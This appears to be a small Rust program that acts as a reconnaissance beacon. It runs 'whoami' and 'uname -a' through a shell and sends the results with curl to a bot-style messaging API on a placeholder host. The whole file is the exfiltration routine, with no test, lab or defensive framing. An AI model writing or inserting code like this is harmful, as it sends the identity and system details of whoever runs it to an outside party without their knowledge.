use std::process::Command;

fn sh(c: &str) -> String {
    String::from_utf8_lossy(&Command::new("sh").arg("-c").arg(c).output().unwrap().stdout).into_owned()
}

fn main() {
    let me = sh("whoami");
    let sys = sh("uname -a");
    let text = format!("{me} {sys}");
    let url = format!("https://api.chat.invalid/bot1:x/sendMessage?text={text}");
    Command::new("curl").args(["-s", &url]).status().ok();
}
